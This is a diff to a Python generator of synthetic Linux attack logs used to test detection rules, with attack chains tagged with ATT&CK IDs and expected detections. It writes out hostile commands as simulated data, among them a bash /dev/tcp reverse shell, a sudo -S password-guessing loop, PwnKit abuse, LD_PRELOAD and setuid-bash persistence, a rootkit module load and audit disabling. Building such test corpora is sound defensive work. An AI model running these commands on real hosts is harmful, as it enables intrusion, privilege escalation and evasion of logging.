@@ -48,14 +48,16 @@ CATALOGUE = {
                           "sshd_new_source_for_user", "sshd_message_from_other_process"],
     "privilege-escalation": ["sudo_authentication_failure", "sudo_repeated_failures", "sudo_not_in_sudoers",
                              "sudo_root_shell", "sudo_suspicious_target_user", "pkexec_abuse",
-                             "setuid_executable_created", "user_added_to_privileged_group"],
+                             "setuid_executable_created", "user_added_to_privileged_group",
+                             "pkexec_abuse_exec", "setuid_executable_created_exec",
+                             "user_added_to_privileged_group_exec"],
     "persistence": ["local_user_created", "uid0_account_created", "authorized_keys_changed",
                     "systemd_unit_created", "crontab_modified", "kernel_module_loaded",
-                    "shell_profile_modified", "ld_preload_modified"],
-    "defense-evasion": ["audit_disabled", "audit_rules_deleted", "auditd_stopped", "journal_tampering",
+                    "shell_profile_modified", "ld_preload_modified", "kernel_module_load_syscall"],
+    "defense-evasion": ["audit_disabled", "audit_rules_deleted", "auditd_stopped", "auditd_gone", "journal_tampering",
                         "firewall_disabled", "history_cleared", "system_time_changed", "mac_disabled",
                         "cordon_stopped"],
-    "execution": ["reverse_shell", "download_and_execute", "executable_in_tmp", "base64_payload_execution",
+    "execution": ["reverse_shell", "reverse_shell_connection", "download_and_execute", "executable_in_tmp", "base64_payload_execution",
                   "crypto_miner"],
     "impact": ["service_stopped", "mass_service_stop", "backup_deletion", "encrypted_file_written",
                "mass_file_encryption", "ransom_note_created", "service_failing_repeatedly",
@@ -469,7 +471,7 @@ def make_corpus_class(gj, ae):
             st = {}
             s1 = self.step("W1", c, "reverse shell from the EHR API (java runs bash /dev/tcp)", "T1059.004",
                            "A request exploits the Java API; java execs bash -c 'bash -i >& /dev/tcp/IP/4444 0>&1'; bash connects out.",
-                           ["reverse_shell"])
+                           ["reverse_shell", "reverse_shell_connection"])
 
             def rce(t):
                 cmd = "bash -i >& /dev/tcp/%s/4444 0>&1" % ip
@@ -529,7 +531,7 @@ def make_corpus_class(gj, ae):
 
             s5 = self.step("W5", c, "PwnKit (CVE-2021-4034): pkexec with an empty argv", "T1068",
                            "pkexec exec'd with argc=0 and GCONV_PATH; pkexec logs the SHELL/suspicious-content lines; a root shell follows.",
-                           ["pkexec_abuse"])
+                           ["pkexec_abuse", "pkexec_abuse_exec"])
 
             def pwnkit(t):
                 sh = st["shell"]
@@ -553,11 +555,12 @@ def make_corpus_class(gj, ae):
         def chain_spray(self, t0):
             ip = "45.134.26.17"
             s = self.step("P1", "password-spray", "SSH password spray: one source, 8 user names, one try each", "T1110.003",
-                          "One failed password each for admin, jdoe, oracle, asmith, postgres, ubuntu, deploy, test from one "
-                          "address, ~40 s apart (under ten attempts in five minutes).",
+                          "One failed password each for jdoe, admin, asmith, mlopez, oracle, deploy, ansible, backup from one "
+                          "address, ~40 s apart (under ten attempts in five minutes): the host's real accounts, as an "
+                          "attacker who harvested staff names tries them, and two that do not exist.",
                           ["sshd_failed_password", "sshd_password_spray"], ["sshd_brute_force"])
-            users = [("admin", True), ("jdoe", False), ("oracle", True), ("asmith", False), ("postgres", True),
-                     ("ubuntu", True), ("deploy", False), ("test", True)]
+            users = [("jdoe", False), ("admin", True), ("asmith", False), ("mlopez", False), ("oracle", True),
+                     ("deploy", False), ("ansible", False), ("backup", False)]
             for i, (u, invalid) in enumerate(users):
                 self.at(t0 + i * (40 + self.sr.randint(0, 5)) * SEC, s,
                         lambda t, u=u, invalid=invalid: self.ssh_fail(t, ip, u, self.sr.randint(1024, 65535), self.nextpid_sr(), invalid))
@@ -666,24 +669,32 @@ def make_corpus_class(gj, ae):
             self.at(t0, s1, go)
 
         def chain_sudo_guessing(self, t0):
-            s1 = self.step("G1", "sudo-guessing", "repeated sudo password failures (3 rounds of 3)", "T1110",
-                           "jdoe's session runs sudo three times in four minutes with wrong passwords: 9 pam_unix failures, "
-                           "three '3 incorrect password attempts' lines.",
+            s1 = self.step("G1", "sudo-guessing", "sudo password guessing (a typed try, then 12 scripted sudo -S tries)", "T1110",
+                           "jdoe's session runs sudo with 3 wrong passwords, then a loop pipes one guess at a time into "
+                           "`sudo -S id`: 12 more pam_unix failures and '1 incorrect password attempt' lines in two minutes.",
                            ["sudo_authentication_failure", "sudo_repeated_failures"])
 
             def go(t):
                 shell, s, pid, port, t = self.ssh_login(t, "10.20.6.31", "jdoe", 1001, method="publickey",
                                                         key_fp="x9LmN2bV4cX6zA8sD0fG2hJ4kL6qW8eR0tY2uI4oP6a")
                 tty = "pts/%s" % shell.tty[3:]
-                for rnd in range(3):
-                    tr = t + (20 + rnd * 75) * SEC
-                    sudo = self.spawn(tr, shell, ["sudo", "su", "-"], "/usr/bin/sudo")
-                    for a in range(3):
-                        self.cemit(tr + (4 + a * 5) * SEC, "sudo", "sudo",
-                                   "pam_unix(sudo:auth): authentication failure; logname=jdoe uid=1001 euid=0 tty=/dev/%s ruser=jdoe rhost=  user=jdoe" % tty,
-                                   prio=5, pid=sudo.pid, subst={"{S}": str(s)})
-                    self.cemit(tr + 16 * SEC, "sudo", "sudo", "    jdoe : 3 incorrect password attempts ; TTY=%s ; PWD=/home/jdoe ; USER=root ; COMMAND=/usr/bin/su -" % tty,
-                               prio=2, pid=sudo.pid, subst={"{S}": str(s)})
+                tr = t + 20 * SEC
+                sudo = self.spawn(tr, shell, ["sudo", "su", "-"], "/usr/bin/sudo")
+                for a in range(3):
+                    self.cemit(tr + (4 + a * 5) * SEC, "sudo", "sudo",
+                               "pam_unix(sudo:auth): authentication failure; logname=jdoe uid=1001 euid=0 tty=/dev/%s ruser=jdoe rhost=  user=jdoe" % tty,
+                               prio=5, pid=sudo.pid, subst={"{S}": str(s)})
+                self.cemit(tr + 16 * SEC, "sudo", "sudo", "    jdoe : 3 incorrect password attempts ; TTY=%s ; PWD=/home/jdoe ; USER=root ; COMMAND=/usr/bin/su -" % tty,
+                           prio=2, pid=sudo.pid, subst={"{S}": str(s)})
+                # The scripted guesses: `for p in $(cat words); do echo "$p" | sudo -S id; done`, one try each.
+                for k in range(12):
+                    tg = t + 60 * SEC + k * 9 * SEC
+                    guess = self.spawn(tg, shell, ["sudo", "-S", "id"], "/usr/bin/sudo")
+                    self.cemit(tg + 2 * SEC, "sudo", "sudo",
+                               "pam_unix(sudo:auth): authentication failure; logname=jdoe uid=1001 euid=0 tty=/dev/%s ruser=jdoe rhost=  user=jdoe" % tty,
+                               prio=5, pid=guess.pid, subst={"{S}": str(s)})
+                    self.cemit(tg + 2 * SEC + 3000, "sudo", "sudo", "    jdoe : 1 incorrect password attempt ; TTY=%s ; PWD=/home/jdoe ; USER=root ; COMMAND=/usr/bin/id" % tty,
+                               prio=2, pid=guess.pid, subst={"{S}": str(s)})
                 self.ssh_logout(t + 260 * SEC, "10.20.6.31", "jdoe", s, pid, port)
             self.at(t0, s1, go)
 
@@ -714,9 +725,10 @@ def make_corpus_class(gj, ae):
             add("R7", "/etc/ld.so.preload written", "T1574.006",
                 "curl fetches a library into /usr/lib/x86_64-linux-gnu; echo its path > /etc/ld.so.preload.", ["ld_preload_modified"])
             add("R8", "setuid copy of bash", "T1548.001", "cp /usr/bin/bash /usr/local/bin/dbus-helper; chmod 4755 on it.",
-                ["setuid_executable_created"])
+                ["setuid_executable_created", "setuid_executable_created_exec"])
             add("R9", "out-of-tree kernel module loaded (rootkit)", "T1547.006",
-                "insmod /root/.cache/km/diamorphine.ko: finit_module, KERN_MODULE, kernel taint lines.", ["kernel_module_loaded"])
+                "insmod /root/.cache/km/diamorphine.ko: finit_module, KERN_MODULE, kernel taint lines.",
+                ["kernel_module_loaded", "kernel_module_load_syscall"])
             add("R10", "nftables ruleset flushed", "T1562.004", "nft flush ruleset.", ["firewall_disabled"])
             add("R11", "AppArmor stopped and torn down", "T1562.001",
                 "systemctl stop apparmor; aa-teardown (profile_remove AVC records).", ["mac_disabled"], ["service_stopped"])
@@ -953,8 +965,8 @@ def make_corpus_class(gj, ae):
             self.at(t0 + 330 * SEC, s6, note)
 
         def chain_crash_loop(self, t0):
-            s = self.step("C1", "crash-loop", "ehr-api.service crash loop (restart counter 1..7, then start limit)", "T1499",
-                          "The API exits with status 1 seven times ~12 s apart; systemd schedules restarts, then gives up.",
+            s = self.step("C1", "crash-loop", "ehr-api.service crash loop (restart counter 1..11, then start limit)", "T1499",
+                          "The API exits with status 1 twelve times ~12 s apart; systemd schedules restarts, then gives up.",
                           ["service_failing_repeatedly", "service_restart_loop"], ["service_stopped"])
             unit, desc = "ehr-api.service", "EHR REST API"
 
@@ -962,7 +974,7 @@ def make_corpus_class(gj, ae):
                 self.sysd(t, "%s: Main process exited, code=exited, status=1/FAILURE" % unit, unit, prio=5,
                           extra=[("EXIT_CODE", "exited"), ("EXIT_STATUS", "1")])
                 self.sysd(t + 1000, "%s: Failed with result 'exit-code'." % unit, unit, prio=4, extra=[("UNIT_RESULT", "exit-code")])
-                if k < 7:
+                if k < 12:
                     self.sysd(t + 5 * SEC, "%s: Scheduled restart job, restart counter is at %d." % (unit, k), unit,
                               extra=[("N_RESTARTS", str(k))])
                     self.sysd(t + 5 * SEC + 1000, "Stopped %s - %s." % (unit, desc), unit)
@@ -971,7 +983,7 @@ def make_corpus_class(gj, ae):
                     self.sysd(t + 5 * SEC, "%s: Start request repeated too quickly." % unit, unit, prio=4)
                     self.sysd(t + 5 * SEC + 500, "%s: Failed with result 'exit-code'." % unit, unit, prio=4, extra=[("UNIT_RESULT", "exit-code")])
                     self.sysd(t + 5 * SEC + 1000, "Failed to start %s - %s." % (unit, desc), unit, prio=3, extra=[("JOB_RESULT", "failed")])
-            for k in range(1, 8):
+            for k in range(1, 13):
                 self.at(t0 + (k - 1) * 12 * SEC, s, lambda t, k=k: cycle(t, k))
 
         def chain_db_burst(self, t0):
@@ -1009,12 +1021,12 @@ def make_corpus_class(gj, ae):
                 ("A4", "new local user", "T1136.001", "useradd -m -s /bin/bash sysadm (UID 1007), passwd sysadm.",
                  ["local_user_created"], [], 45),
                 ("A5", "new user added to the sudo group", "T1098", "usermod -aG sudo sysadm.",
-                 ["user_added_to_privileged_group"], [], 50),
+                 ["user_added_to_privileged_group", "user_added_to_privileged_group_exec"], [], 50),
                 ("A6", "root's authorized_keys written", "T1098.004", "echo ssh-ed25519 ... >> /root/.ssh/authorized_keys.",
                  ["authorized_keys_changed"], [], 40),
                 ("A7", "auditd stopped", "T1562.012",
                  "systemctl stop auditd: PID 1 stops auditd.service; CONFIG_CHANGE audit_pid=0; SERVICE_STOP unit=auditd.",
-                 ["auditd_stopped"], ["service_stopped"], 50),
+                 ["auditd_stopped", "auditd_gone"], ["service_stopped"], 50),
                 ("A8", "auditing disabled (auditctl -e 0)", "T1562.012", "CONFIG_CHANGE op=set audit_enabled=0 old=1.",
                  ["audit_disabled"], [], 15),
                 ("A9", "mass stop of services in 30 s", "T1489",
